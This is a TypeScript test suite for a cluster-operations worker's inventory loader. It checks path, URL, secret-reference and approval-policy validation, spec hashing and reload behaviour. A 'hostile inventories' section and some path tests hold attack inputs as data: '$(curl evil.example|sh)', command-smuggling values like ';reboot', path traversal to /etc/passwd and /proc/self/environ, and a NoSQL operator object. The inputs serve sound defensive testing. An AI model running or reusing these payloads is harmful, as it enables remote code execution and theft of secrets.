// The worker's inventory: what a file may hold, how every problem is named, how the store re-reads
// a changed file and refuses a run whose cluster changed under it. No server.
import { mkdirSync, mkdtempSync, readFileSync, renameSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse, stringify } from 'yaml';
import { checkInventory, reportText } from '../../src/inventory/check';
import { InventoryError, loadInventory } from '../../src/inventory/load';
import { InventoryStore } from '../../src/inventory/store';
import { inventoryWarnings } from '../../src/inventory/warnings';
import { policyFor } from '../../src/model/policy';
import { formatPath, hasUnsafeCharacters } from '../../src/model/validate';
import { testClusterEntry, testInventory, testInventoryDoc } from '../support/inventory';
import { testKey } from '../support/keys';

const EXAMPLE = path.join(__dirname, '../../examples/inventory.yaml');

/** Every problem of an inventory holding `lab` as `entry` after `change`, or [] when valid. */
function problems(change: (entry: ReturnType<typeof testClusterEntry>) => void): string[] {
  const entry = testClusterEntry();
  change(entry);
  try {
    testInventory(testInventoryDoc({ lab: entry }));
    return [];
  } catch (err) {
    if (!(err instanceof InventoryError)) throw err;
    return err.problems.map((p) => p.replace(/^test-inventory\.yaml: /, ''));
  }
}

const tmpDir = () => mkdtempSync(path.join(os.tmpdir(), 'inventory-'));

describe('inventory file', () => {
  it('the example inventory is valid, applies defaults and splits spare hosts apart', () => {
    const inventory = loadInventory(EXAMPLE);
    const prod = inventory.clusters.get('prod');
    expect(prod?.cluster.hosts.map((h) => h.name)).toEqual([
      'web1',
      'web2',
      'master1',
      'master2',
      'master3',
      'core1',
      'core2',
    ]);
    expect(prod?.cluster.shards).toBe(1);
    expect(prod?.cluster.spareHosts.map((h) => h.name)).toEqual(['core3']);
    expect(prod?.cluster.hosts[0]).toEqual({
      name: 'web1',
      address: '10.0.0.11',
      roles: ['webapp'],
      port: 22,
      user: 'root',
      sudo: false,
    });
    expect(prod?.cluster.workDir).toBe('/root/biz');
    expect(prod?.cluster.media?.containerDir).toBe('/usr/local/wamedia');
    // A colon-separated fingerprint is normalised.
    expect(prod?.cluster.api.tls.pinnedSha256).toBe(
      '3F8A1C229B104D5E6F708192A3B4C5D6E7F8091A2B3C4D5E6F708192A3B4C5D6',
    );
    expect(prod?.specHash).toMatch(/^[0-9a-f]{64}$/);
    // The policy is not part of the spec the activities act on, and per-runbook differences apply.
    expect(JSON.stringify(prod?.cluster)).not.toContain('approvers');
    const policy = prod?.entry.approvals;
    if (!policy) throw new Error('the example has a policy');
    expect(policyFor(policy, 'upgrade').minApprovals).toBe(2);
    // Uninstall: two of three leads, so whoever of them starts it leaves two to approve (rule 7).
    expect(policyFor(policy, 'uninstall')).toMatchObject({
      approvers: ['alice', 'bob', 'dave'],
      minApprovals: 2,
    });
    expect(inventoryWarnings(inventory, {}).filter((w) => w.includes('.approvals'))).toEqual([]);
    expect(policyFor(policy, 'haSetup')).toMatchObject({
      approvers: ['alice', 'bob', 'carol', 'dave'],
      minApprovals: 1,
      timeout: { default: '24h', min: '15m', max: '7d' },
    });
  });

  it('the same cluster always hashes the same; any change to it changes the hash', () => {
    const a = testInventory(testInventoryDoc({ lab: testClusterEntry() })).clusters.get('lab');
    const b = testInventory(testInventoryDoc({ lab: testClusterEntry() })).clusters.get('lab');
    expect(a?.specHash).toBe(b?.specHash);
    const moved = testClusterEntry();
    moved.api.baseUrl = 'https://10.0.0.12:9090';
    expect(testInventory(testInventoryDoc({ lab: moved })).clusters.get('lab')?.specHash).not.toBe(
      a?.specHash,
    );
    // Writing a default explicitly is the same spec.
    const explicit = testClusterEntry();
    explicit.workDir = '/root/biz';
    expect(testInventory(testInventoryDoc({ lab: explicit })).clusters.get('lab')?.specHash).toBe(
      a?.specHash,
    );
  });

  it('refuses paths that climb, are relative, carry shell characters, or a compose file not *.yml', () => {
    expect(
      problems((e) => {
        e.workDir = '/root/../root/.ssh';
      }),
    ).toEqual([
      'clusters.lab.workDir: expected a normalised absolute path (no "." or ".." segments, no "//")',
    ]);
    expect(
      problems((e) => {
        e.workDir = 'biz';
      }),
    ).toEqual([
      'clusters.lab.workDir: expected an absolute path of letters, digits and . _ / + @ : -',
      'clusters.lab.workDir: expected a normalised absolute path (no "." or ".." segments, no "//")',
    ]);
    expect(
      problems((e) => {
        e.workDir = '/root/biz;reboot';
      })[0],
    ).toBe('clusters.lab.workDir: expected an absolute path of letters, digits and . _ / + @ : -');
    expect(
      problems((e) => {
        e.compose.file = '/root/.ssh/authorized_keys';
      }),
    ).toEqual(['clusters.lab.compose.file: expected the path of a compose file named *.yml']);
    expect(
      problems((e) => {
        e.media = { hostPath: '/mnt/$(reboot)' };
      })[0],
    ).toMatch(/^clusters\.lab\.media\.hostPath: /);
  });

  it('refuses secret references that are not env:NAME or a normalised absolute file, never echoing them', () => {
    const refs = {
      'hunter2-plain': 'hunter2',
      'file:relative/pw': 'relative/pw',
      'file:/etc/../proc/self/environ': 'self/environ',
      'env:1BAD': '1BAD',
      'vault:kv/secret': 'kv/secret',
    };
    for (const [ref, telltale] of Object.entries(refs)) {
      const found = problems((e) => {
        e.api.passwordRef = ref;
      });
      expect(found.length, ref).toBeGreaterThan(0);
      expect(
        found.every((p) => p.startsWith('clusters.lab.api.passwordRef: ')),
        ref,
      ).toBe(true);
      expect(found.join('\n')).not.toContain(telltale);
    }
  });

  it('refuses credentials, a query or plain http in the API URL, without echoing the credentials', () => {
    const creds = problems((e) => {
      e.api.baseUrl = 'https://admin:S3cretPw@10.0.0.11:9090';
    });
    expect(creds).toContain(
      'clusters.lab.api.baseUrl: credentials are not allowed in a URL (the password is api.passwordRef)',
    );
    expect(creds.join('\n')).not.toContain('S3cretPw');
    expect(
      problems((e) => {
        e.api.baseUrl = 'http://10.0.0.11:9090';
      })[0],
    ).toBe('clusters.lab.api.baseUrl: the Webapp serves HTTPS only: expected https://...');
    expect(
      problems((e) => {
        e.api.baseUrl = 'https://10.0.0.11:9090/?next=evil';
      }),
    ).toEqual(['clusters.lab.api.baseUrl: expected https://host[:port][/path], without query or fragment']);
  });

  it('is strict: a misspelt key is an error naming its full path, never silently dropped', () => {
    expect(
      problems((e) => {
        e.workdir = '/srv/biz';
        e.api.tls.pinnedSHA256 = 'x';
      }),
    ).toEqual(['clusters.lab.api.tls.pinnedSHA256: unknown field', 'clusters.lab.workdir: unknown field']);
  });

  it('refuses duplicate hosts, unpinned or unknown pinned hosts, and a cluster of spares only', () => {
    expect(
      problems((e) => {
        e.hosts[1].name = 'web1';
      }),
    ).toContain('clusters.lab.hosts[1].name: host web1 is listed twice');
    expect(problems((e) => delete e.ssh.knownHosts.core2)).toEqual([
      'clusters.lab.ssh.knownHosts.core2: no pinned host key for hosts[4] core2',
    ]);
    expect(
      problems((e) => {
        e.ssh.knownHosts.core9 = e.ssh.knownHosts.core1;
      }),
    ).toEqual(['clusters.lab.ssh.knownHosts.core9: no host named core9 in this cluster (a typo?)']);
    expect(
      problems((e) => {
        for (const h of e.hosts) h.spare = true;
      }),
    ).toEqual(['clusters.lab.hosts: every host is spare: the cluster has no member']);
  });

  it('refuses a policy no start could pass once the requester is left out (TRUST.md rule 7)', () => {
    const tooFew =
      "2 approvals can never be given with self-approval off: an approver's signed start leaves 1 other " +
      'approver(s), an unsigned start needs 3 of 2, and no requester outside the approvers may start it ' +
      '(TRUST.md rule 7); add an approver, lower minApprovals or list a requester';
    // lab: approvers alice and bob, requester carol. Two approvals: only carol's signed start passes.
    expect(
      problems((e) => {
        e.approvals.minApprovals = 2;
      }),
    ).toEqual([]);
    expect(
      problems((e) => {
        e.approvals.minApprovals = 2;
        e.approvals.requesters = [];
      }),
    ).toEqual([`clusters.lab.approvals.minApprovals: ${tooFew}`]);
    // An override is judged as merged, and named: the example's old uninstall policy.
    expect(
      problems((e) => {
        e.approvals.requesters = [];
        e.approvals.approvers.push({ name: 'carol', keys: [testKey('carol').publicLine] });
        e.approvals.runbooks = { uninstall: { minApprovals: 2, approvers: ['alice', 'bob'] } };
      }),
    ).toEqual([`clusters.lab.approvals.runbooks.uninstall.minApprovals: ${tooFew}`]);
    // Self-approval on for the cluster, off for upgrade: only upgrade is refused; a timeout-only
    // override inherits the cluster's verdict and is not named again.
    expect(
      problems((e) => {
        e.approvals.requesters = [];
        e.approvals.minApprovals = 2;
        e.approvals.allowSelfApproval = true;
        e.approvals.runbooks = {
          upgrade: { allowSelfApproval: false },
          haDrill: { timeout: { default: '1h', min: '1s', max: '1d' } },
        };
      }),
    ).toEqual([`clusters.lab.approvals.runbooks.upgrade.minApprovals: ${tooFew}`]);
  });

  it('warns where only a signed start can pass the gates, for the cluster and each override', () => {
    const entry = testClusterEntry();
    entry.approvals.minApprovals = 2;
    entry.approvals.runbooks = { uninstall: { approvers: ['alice', 'bob'] }, upgrade: { minApprovals: 1 } };
    const warnings = inventoryWarnings(testInventory(testInventoryDoc({ lab: entry })), {});
    const unsigned = (where: string) =>
      `clusters.lab.approvals${where}: with self-approval off, a run started unsigned needs 3 approvers (TRUST.md rule 7); only 2 listed: start it signed (waba-runbooks start)`;
    expect(warnings.filter((w) => w.includes('started unsigned'))).toEqual([
      unsigned(''),
      unsigned('.runbooks.uninstall'),
    ]);
  });

  it('refuses a policy that could never be satisfied, a key shared by two people, relays for strangers', () => {
    expect(
      problems((e) => {
        e.approvals.minApprovals = 3;
      }),
    ).toEqual(['clusters.lab.approvals.minApprovals: 3 approvals can never be given: only 2 approver(s)']);
    expect(
      problems((e) => {
        e.approvals.runbooks = { upgrade: { approvers: ['alice'], minApprovals: 2 } };
      }),
    ).toEqual([
      'clusters.lab.approvals.runbooks.upgrade.minApprovals: 2 approvals can never be given: only 1 approver(s)',
    ]);
    expect(
      problems((e) => {
        e.approvals.runbooks = { upgrade: { approvers: ['mallory'] } };
      }),
    ).toContain(
      "clusters.lab.approvals.runbooks.upgrade.approvers[0]: mallory is not in this policy's approvers",
    );
    expect(
      problems((e) => {
        e.approvals.approvers[1].keys = e.approvals.approvers[0].keys;
      }),
    ).toEqual([
      "clusters.lab.approvals.approvers[1].keys[0]: this key is also alice's: one key is one person",
    ]);
    expect(
      problems((e) => {
        e.approvals.approvers[1].name = 'ALICE';
      }),
    ).toEqual(['clusters.lab.approvals.approvers[1].name: approver alice is listed twice']);
    expect(
      problems((e) => {
        e.approvals.relays = [{ name: 'slack', key: testKey('slack').publicLine, mayActFor: ['mallory'] }];
      }),
    ).toEqual(['clusters.lab.approvals.relays[0].mayActFor[0]: mallory is not an approver of this policy']);
    // A relay's key is its own: as a person's too, one key could approve twice (once relayed).
    expect(
      problems((e) => {
        e.approvals.relays = [
          { name: 'slack', key: e.approvals.approvers[1].keys[0], mayActFor: ['alice'] },
          { name: 'SLACK', key: testKey('slack').publicLine, mayActFor: ['alice'] },
        ];
      }),
    ).toEqual([
      "clusters.lab.approvals.relays[0].key: this key is also bob's: a relay needs its own key",
      'clusters.lab.approvals.relays[1].name: relay SLACK is listed twice',
    ]);
    expect(
      problems((e) => {
        e.approvals.timeout = { default: '1h', min: '2h', max: '1d' };
      }),
    ).toEqual(['clusters.lab.approvals.timeout.default: must be between min 2h and max 1d']);
    expect(
      problems((e) => {
        e.approvals.approvers[0].keys = ['not a key'];
      })[0],
    ).toBe(
      'clusters.lab.approvals.approvers[0].keys[0]: expected an OpenSSH public key line: "<type> <base64> [comment]"',
    );
  });

  it('a directory of files is one inventory; a cluster in two files, a name differing from its key are refused', () => {
    const dir = tmpDir();
    writeFileSync(path.join(dir, 'a.yaml'), stringify(testInventoryDoc({ lab: testClusterEntry() })));
    writeFileSync(path.join(dir, 'b.json'), JSON.stringify(testInventoryDoc({ other: testClusterEntry() })));
    writeFileSync(path.join(dir, 'README.txt'), 'not an inventory');
    expect([...loadInventory(dir).clusters.keys()]).toEqual(['lab', 'other']);

    writeFileSync(
      path.join(dir, 'c.yaml'),
      stringify(testInventoryDoc({ lab: { ...testClusterEntry(), name: 'lab' } })),
    );
    const err = (() => {
      try {
        loadInventory(dir);
      } catch (e) {
        return e as InventoryError;
      }
    })();
    expect(err?.problems).toEqual([
      `${path.join(dir, 'c.yaml')}: clusters.lab: cluster lab is also in ${path.join(dir, 'a.yaml')}`,
    ]);
    expect(() => testInventory(testInventoryDoc({ lab: { ...testClusterEntry(), name: 'prod' } }))).toThrow(
      'clusters.lab.name: "prod" differs from its key "lab"',
    );
  });

  it('names a file that is missing, not YAML, or has a key twice', () => {
    const dir = tmpDir();
    expect(() => loadInventory(path.join(dir, 'none.yaml'))).toThrow(/cannot read it \(ENOENT\)/);
    writeFileSync(path.join(dir, 'bad.yaml'), 'clusters: [unclosed');
    expect(() => loadInventory(path.join(dir, 'bad.yaml'))).toThrow(/bad\.yaml: not valid YAML/);
    writeFileSync(path.join(dir, 'dup.yaml'), 'clusters:\n  lab: {}\n  lab: {}\n');
    expect(() => loadInventory(path.join(dir, 'dup.yaml'))).toThrow(/dup\.yaml: not valid YAML: .*unique/i);
  });

  it('inventory check reports per cluster which runbooks it can run, and why not the others', () => {
    const dir = tmpDir();
    const bare = testClusterEntry();
    delete bare.backup;
    delete bare.approvals;
    const file = path.join(dir, 'inventory.yaml');
    writeFileSync(file, stringify(testInventoryDoc({ lab: bare })));
    const report = checkInventory(file, {});
    expect(report.clusters[0]?.runbooks).toEqual([
      'healthCheck',
      'dbUpgrade',
      'mediaChown',
      'collectLogs',
      'preflightCheck',
    ]);
    expect(report.clusters[0]?.notRunnable.upgrade).toEqual([
      'backup: upgrade needs it (the password the settings backup is encrypted with)',
      'approvals: upgrade needs it (its approval gates follow that policy)',
    ]);
    expect(report.warnings).toContain(
      'clusters.lab.api.passwordRef: environment variable WABA_ADMIN_PASSWORD is not set',
    );
    // The topology lint: the seed's HA cluster (1 Webapp, 2 Masters, 2 Coreapps) against the guide.
    expect(report.clusters[0]?.tolerance).toBe(
      'host failures tolerated: Masters 1 (2 on 2 hosts), Coreapps 1 (2 on 2 hosts for 1 shard), Webapps 0 (1 on 1 host)',
    );
    expect(report.warnings.filter((w) => w.startsWith('cluster lab: '))).toEqual([
      'cluster lab: Webapps: 1 Webapp on 1 host tolerates 0 host failures; the guide advises ' +
        '"at least 2 Webapps for 100-150 messages/s, behind a load balancer (HAProxy, Nginx, ELB) for Webapp HA"',
      'cluster lab: Masters: 2 Masters on 2 hosts tolerate 1 host failure; the guide advises ' +
        '"3 Masters on different hosts (no more needed; they are light and may share hosts with Coreapps)"',
    ]);
    expect(reportText(report)).toContain('  host failures tolerated: Masters 1 (2 on 2 hosts)');
    // With 2 shards in the inventory, the 2 Coreapps leave no standby: the worker says so at start.
    writeFileSync(file, stringify(testInventoryDoc({ lab: { ...bare, shards: 2 } })));
    expect(inventoryWarnings(loadInventory(file), {})).toContain(
      'cluster lab: Coreapps: 2 Coreapps on 2 hosts for 2 shards tolerate 0 host failures ' +
        '(no standby: one host failure leaves a shard without a Coreapp); ' +
        'the guide advises "shards + X Coreapps on different hosts to tolerate X host failures"',
    );
    // A shard count the product does not take is refused, naming the field.
    writeFileSync(file, stringify(testInventoryDoc({ lab: { ...bare, shards: 3 } })));
    expect(() => loadInventory(file)).toThrow('clusters.lab.shards: expected one of 1, 2, 4, 8, 16, 32');
  });
});

describe('inventory store', () => {
  function storeOn(file: string, now: { t: number }) {
    const warnings: string[] = [];
    const store = new InventoryStore(file, {
      checkEveryMs: 1000,
      now: () => now.t,
      warn: (m) => warnings.push(m),
    });
    return { store, warnings };
  }
  const write = (file: string, doc: unknown) => {
    writeFileSync(`${file}.new`, stringify(doc));
    renameSync(`${file}.new`, file);
  };

  it('re-reads a changed file; a bad edit keeps the last good inventory and is reported once', () => {
    const dir = tmpDir();
    const file = path.join(dir, 'inventory.yaml');
    write(file, testInventoryDoc({ lab: testClusterEntry() }));
    const now = { t: 0 };
    const { store, warnings } = storeOn(file, now);
    expect(store.byName('prod')).toMatchObject({ ok: false, kind: 'UnknownCluster' });

    write(file, testInventoryDoc({ lab: testClusterEntry(), prod: testClusterEntry() }));
    expect(store.byName('prod').ok).toBe(false); // looked at most once a second
    now.t = 1500;
    expect(store.byName('prod').ok).toBe(true);

    writeFileSync(file, readFileSync(file, 'utf8').replace('workDir', 'workdir').concat('\nbogus: 1\n'));
    now.t = 3000;
    expect(store.byName('prod').ok).toBe(true);
    now.t = 4500;
    store.current();
    expect(warnings).toHaveLength(1);
    expect(warnings[0]).toContain('bogus: unknown field');
    expect(warnings[0]).toContain('the worker keeps using the inventory it read before');
  });

  it('hands a run only the spec it resolved: a changed or removed cluster is refused by hash', () => {
    const dir = tmpDir();
    mkdirSync(dir, { recursive: true });
    const file = path.join(dir, 'inventory.yaml');
    write(file, testInventoryDoc({ lab: testClusterEntry() }));
    const now = { t: 0 };
    const { store } = storeOn(file, now);
    const found = store.byName('lab');
    if (!found.ok) throw new Error(found.message);
    const ref = { name: 'lab', specHash: found.entry.specHash };
    expect(store.byRef(ref).ok).toBe(true);

    const moved = testClusterEntry();
    moved.hosts[0].address = '10.9.9.9';
    write(file, testInventoryDoc({ lab: moved }));
    now.t = 2000;
    const changed = store.byRef(ref);
    expect(changed).toMatchObject({ ok: false, kind: 'InventoryChanged' });
    expect(!changed.ok && changed.message).toMatch(
      /^cluster lab changed in the worker's inventory since this run resolved it \(spec [0-9a-f]{12}… then, [0-9a-f]{12}… now\); nothing was done with the new spec/,
    );
    write(file, testInventoryDoc({ other: testClusterEntry() }));
    now.t = 4000;
    expect(store.byRef(ref)).toMatchObject({ ok: false, kind: 'UnknownCluster' });
  });

  it('an invalid inventory at start is refused with every problem of every file', () => {
    const dir = tmpDir();
    const file = path.join(dir, 'inventory.yaml');
    const bad = testClusterEntry();
    bad.workDir = '../x';
    bad.api.baseUrl = 'http://x';
    write(file, testInventoryDoc({ lab: bad }));
    expect(() => new InventoryStore(file)).toThrow(InventoryError);
    try {
      new InventoryStore(file);
    } catch (err) {
      expect((err as InventoryError).problems).toEqual([
        `${file}: clusters.lab.workDir: expected an absolute path of letters, digits and . _ / + @ : -`,
        `${file}: clusters.lab.workDir: expected a normalised absolute path (no "." or ".." segments, no "//")`,
        `${file}: clusters.lab.api.baseUrl: the Webapp serves HTTPS only: expected https://...`,
        `${file}: clusters.lab.api.baseUrl: expected https://host[:port][/path], without query or fragment`,
      ]);
    }
  });
});

describe('hostile inventories', () => {
  const HOSTILE: [string, unknown][] = [
    ['path traversal', '../../../../etc/passwd'],
    ['shell', '$(curl evil.example|sh)'],
    ['a URL with credentials', 'https://admin:hunter2@198.51.100.7/'],
    ['terminal control characters', '\u001b]0;pwned\u0007'],
    ['a huge string', 'x'.repeat(100_000)],
    ['a number', 7],
    ['an object', { $ne: null }],
  ];
  /** Every leaf of the example's prod entry that holds a string, as a path. */
  const leaves = (value: unknown, at: (string | number)[] = []): (string | number)[][] => {
    if (typeof value === 'string') return [at];
    if (Array.isArray(value)) return value.flatMap((v, i) => leaves(v, [...at, i]));
    if (value && typeof value === 'object')
      return Object.entries(value).flatMap(([k, v]) => leaves(v, [...at, k]));
    return [];
  };
  const example = () =>
    parse(readFileSync(EXAMPLE, 'utf8')) as { clusters: { prod: Record<string, unknown> } };

  it('every string field of a cluster entry refuses every hostile value, naming the field; the worker would not start', () => {
    const paths = leaves(example().clusters.prod);
    const cases = paths.flatMap((at) => HOSTILE.map(([what, value]) => ({ at, what, value })));
    expect(cases.length).toBeGreaterThanOrEqual(300);
    const accepted: string[] = [];
    for (const { at, what, value } of cases) {
      const doc = example();
      let node = doc.clusters.prod as Record<string | number, unknown>;
      for (const key of at.slice(0, -1)) node = node[key] as Record<string | number, unknown>;
      node[at[at.length - 1] as string] = value;
      const field = formatPath(['clusters', 'prod', ...at]);
      try {
        testInventory(doc);
        accepted.push(`${field}: ${what} accepted`);
      } catch (err) {
        const problems = (err as InventoryError).problems ?? [String(err)];
        // Named: the field itself, or the object holding it (a record key, a whole-object rule).
        const parent = formatPath(['clusters', 'prod', ...at.slice(0, -1)]);
        if (!problems.some((p) => p.includes(`${field}:`) || p.includes(`${parent}`)))
          accepted.push(`${field}: ${what} refused without naming it: ${problems.join(' | ').slice(0, 300)}`);
        if (problems.some((p) => p.length > 500 || hasUnsafeCharacters(p) || p.includes('hunter2')))
          accepted.push(`${field}: ${what} echoed unbounded, uncleaned or secret text`);
      }
    }
    expect(accepted).toEqual([]);
  });
});
